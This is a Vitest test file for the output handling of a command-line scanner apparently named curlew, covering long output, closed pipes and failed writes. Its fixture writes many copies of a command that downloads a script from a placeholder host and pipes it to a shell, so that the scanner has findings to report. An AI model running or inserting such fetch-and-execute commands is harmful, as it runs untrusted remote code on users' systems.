import { closeSync, mkdtempSync, openSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { writeAllSync } from "../../src/cli/write-sync.js";
import { bash } from "./curlew-process.js";

let folder = "";
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "curlew-streams-"));
});
afterEach(() => rmSync(folder, { recursive: true }));

it("writeAllSync writes all bytes to a descriptor, and returns null or the error", () => {
  const path = join(folder, "out");
  const descriptor = openSync(path, "w");
  const text = "ä".repeat(100_000);
  expect(writeAllSync(descriptor, Buffer.from(text))).toBeNull();
  closeSync(descriptor);
  expect(readFileSync(path, "utf8")).toBe(text);
  const reading = openSync(path, "r");
  expect(writeAllSync(reading, Buffer.from("x"))).toMatchObject({ code: "EBADF" });
  closeSync(reading);
});

const FINDINGS = "for i in $(seq 400); do echo 'curl https://x.example/i.sh | sh'; done > many.sh";

it.each([
  ["a file", "curlew scan many.sh > out; echo $? >> out; cat out"],
  ["a pipe that is read slowly", "{ curlew scan many.sh; echo $?; } | { sleep 1; cat; }"],
])("a long output is written completely to %s, and the exit status is correct", async (_, line) => {
  const { stdout } = await bash(`${FINDINGS}; ${line}`, { cwd: folder });
  expect(stdout.match(/^many\.sh:/gm)).toHaveLength(400);
  expect(stdout).toMatch(/400 findings in 1 of 1 text\n1\n$/);
});

it("a reader that closes the output early causes no message and does not change the exit status", async () => {
  const { stdout, stderr } = await bash(
    `${FINDINGS}; { curlew scan many.sh; echo $? > status; } | head -n 1; cat status`,
    { cwd: folder },
  );
  expect(stdout).toMatch(/^many\.sh:1:1: .*\n1\n$/);
  expect(stderr).toBe("");
});

it("a failed write to standard output is reported with status 2", async () => {
  const { stdout, stderr } = await bash(`${FINDINGS}; curlew scan many.sh > /dev/full; echo $?`, {
    cwd: folder,
  });
  expect(stdout).toBe("2\n");
  expect(stderr).toContain("cannot write standard output");
});
